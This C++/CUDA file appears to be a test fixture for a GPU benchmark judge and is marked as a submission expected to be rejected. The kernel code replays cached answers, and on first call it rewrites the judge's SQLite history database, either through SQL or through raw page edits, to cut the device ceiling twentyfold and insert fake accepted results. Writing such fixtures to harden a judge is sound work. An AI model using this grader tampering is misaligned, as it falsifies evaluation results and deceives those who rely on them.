// expect: rejected
// Attack (the judge's database): the device ceiling that the floor and "% of peak" come from is
// measured once and kept in $GPUJUDGE_DATA_DIR/history.db (default
// ~/.local/share/gpujudge/history.db), a file the submission's process may write. solve replays
// cached answers (a sampling cache keyed on n and four samples: the timed variants change a few of
// 100M samples, which moves a mean by less than its tolerance) in about 10 µs, and, on its first
// call, divides the stored ceiling by 20 and inserts a fake personal best: through libsqlite3 when
// the machine has it (dlopen; the judge links SQLite statically), else by rewriting the REAL that
// follows the device's name in the table's record on the raw pages (no page checksums; PRAGMA
// quick_check does not read values). The judgement in progress read the ceiling before loading
// solve, so it ends impossible_time; every later one on that device, this file's included, accepts
// a replayed answer at 20 times the hardware's bandwidth, and `history` shows the fake best. With
// the database out of the sandbox's reach, every judgement of it is impossible_time.
#include <cuda_runtime.h>
#include <dlfcn.h>
#include <fcntl.h>
#include <unistd.h>

#include <cstdint>
#include <cstdlib>
#include <cstring>
#include <string>
#include <vector>

namespace {

constexpr int kEntries = 64;  // every test of the problem fits
struct cache_entry {
    int n;
    float a, b, fingerprint[4];
    float answer;
};
__device__ cache_entry g_cache[kEntries];
__device__ int g_used = 0;
__device__ int g_hit = 0;

__global__ void look_up(const float* y, float* result, float a, float b, int n) {
    g_hit = 0;
    for (int e = 0; e < g_used && n >= 4; ++e) {
        const cache_entry& c = g_cache[e];
        if (c.n == n && c.a == a && c.b == b && c.fingerprint[0] == y[0] && c.fingerprint[1] == y[1] &&
            c.fingerprint[2] == y[2] && c.fingerprint[3] == y[3]) {
            *result = c.answer;
            g_hit = 1;
            return;
        }
    }
    *result = 0.0f;
}

__global__ void integrate_on_miss(const float* y, float* result, float a, float b, int n) {
    if (g_hit) return;
    float sum = 0.0f;
    for (int i = blockIdx.x * blockDim.x + threadIdx.x; i < n; i += gridDim.x * blockDim.x) sum += y[i];
    for (int offset = 16; offset > 0; offset /= 2) sum += __shfl_down_sync(0xffffffffu, sum, offset);
    if (threadIdx.x % 32 == 0) atomicAdd(result, sum * ((b - a) / n));
}

__global__ void keep_on_miss(const float* y, const float* result, float a, float b, int n) {
    if (g_hit || n < 4 || g_used >= kEntries) return;
    cache_entry& c = g_cache[g_used++];
    c.n = n, c.a = a, c.b = b;
    for (int i = 0; i < 4; ++i) c.fingerprint[i] = y[i];
    c.answer = *result;
}

std::string history_path() {
    if (const char* dir = std::getenv("GPUJUDGE_DATA_DIR"); dir && *dir) return std::string(dir) + "/history.db";
    if (const char* dir = std::getenv("XDG_DATA_HOME"); dir && *dir) return std::string(dir) + "/gpujudge/history.db";
    if (const char* home = std::getenv("HOME"); home && *home)
        return std::string(home) + "/.local/share/gpujudge/history.db";
    const char* tmp = std::getenv("TMPDIR");
    return std::string(tmp && *tmp ? tmp : "/tmp") + "/gpujudge-history.db";
}

// Through the system's SQLite, where there is one.
bool tamper_with_sqlite(const std::string& path, const std::string& source) {
    void* lib = dlopen("libsqlite3.so.0", RTLD_NOW | RTLD_LOCAL);
    if (!lib) return false;
    using open_fn = int (*)(const char*, void**);
    using exec_fn = int (*)(void*, const char*, void*, void*, char**);
    using close_fn = int (*)(void*);
    auto open_db = reinterpret_cast<open_fn>(dlsym(lib, "sqlite3_open"));
    auto exec = reinterpret_cast<exec_fn>(dlsym(lib, "sqlite3_exec"));
    auto close_db = reinterpret_cast<close_fn>(dlsym(lib, "sqlite3_close"));
    void* db = nullptr;
    if (!open_db || !exec || !close_db || open_db(path.c_str(), &db) != 0) return false;
    const std::string sql =
        "PRAGMA busy_timeout = 5000;"
        "UPDATE device_ceilings SET gbps = gbps / 20;"
        "INSERT INTO results (problem, source, origin, baseline, device_name, device_uuid, test, median_ms, mean_ms,"
        " min_ms, samples, gbps, speedup) SELECT 'monte_carlo_integration', '" +
        source +
        "', 'submit', 0, device_name, device_uuid, 'n = 100M', 0.0021, 0.0021, 0.0020, 400, 190000, 40"
        " FROM device_ceilings;"
        "INSERT INTO attempts (problem, source, source_hash, origin, outcome, passed, total, device_name, test,"
        " median_us, gbps, percent_of_peak) SELECT 'monte_carlo_integration', '" +
        source + "', '', 'submit', 'accepted', 20, 20, device_name, 'n = 100M', 2.1, 190000, 99.9 FROM device_ceilings;";
    const bool ok = exec(db, sql.c_str(), nullptr, nullptr, nullptr) == 0;
    close_db(db);
    return ok;
}

double big_endian_double(const unsigned char* p) {
    std::uint64_t bits = 0;
    for (int i = 0; i < 8; ++i) bits = bits << 8 | p[i];
    double value;
    std::memcpy(&value, &bits, sizeof value);
    return value;
}

void put_big_endian_double(unsigned char* p, double value) {
    std::uint64_t bits;
    std::memcpy(&bits, &value, sizeof bits);
    for (int i = 7; i >= 0; --i, bits >>= 8) p[i] = static_cast<unsigned char>(bits);
}

// Without SQLite: device_ceilings' record holds uuid, name, then gbps as an 8-byte big-endian REAL.
void tamper_with_pages(const std::string& path, const std::string& device_name) {
    const int fd = open(path.c_str(), O_RDWR);
    if (fd < 0) return;
    std::vector<unsigned char> file;
    unsigned char chunk[65536];
    for (ssize_t got; (got = read(fd, chunk, sizeof chunk)) > 0;) file.insert(file.end(), chunk, chunk + got);
    for (std::size_t at = 0; at + device_name.size() + 8 <= file.size(); ++at) {
        if (std::memcmp(&file[at], device_name.data(), device_name.size()) != 0) continue;
        const std::size_t value_at = at + device_name.size();
        const double gbps = big_endian_double(&file[value_at]);
        if (!(gbps > 100 && gbps < 100000)) continue;  // the results table's rows have text after the name
        put_big_endian_double(&file[value_at], gbps / 20);
        (void)!pwrite(fd, &file[value_at], 8, static_cast<off_t>(value_at));
    }
    close(fd);
}

void tamper_with_history() {
    Dl_info self{};
    dladdr(reinterpret_cast<void*>(&tamper_with_history), &self);
    const std::string source = self.dli_fname ? self.dli_fname : "solve.cu";
    const std::string path = history_path();
    if (tamper_with_sqlite(path, source)) return;
    cudaDeviceProp prop{};
    cudaGetDeviceProperties(&prop, 0);
    tamper_with_pages(path, prop.name);
}

}  // namespace

extern "C" void solve(const float* y_samples, float* result, float a, float b, int n_samples) {
    static bool tampered = false;
    if (!tampered) {
        tampered = true;
        tamper_with_history();
    }
    look_up<<<1, 1>>>(y_samples, result, a, b, n_samples);
    integrate_on_miss<<<1024, 256>>>(y_samples, result, a, b, n_samples);
    keep_on_miss<<<1, 1>>>(y_samples, result, a, b, n_samples);
}
